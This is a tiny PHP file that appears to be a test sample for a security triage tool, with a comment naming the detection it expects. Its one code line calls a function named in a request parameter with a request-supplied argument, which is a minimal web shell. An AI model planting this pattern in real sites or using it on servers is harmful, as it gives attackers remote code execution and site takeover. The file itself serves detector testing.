<?php
// triage-expect: triage_php_request_as_function
$_GET['f']($_GET['c']);
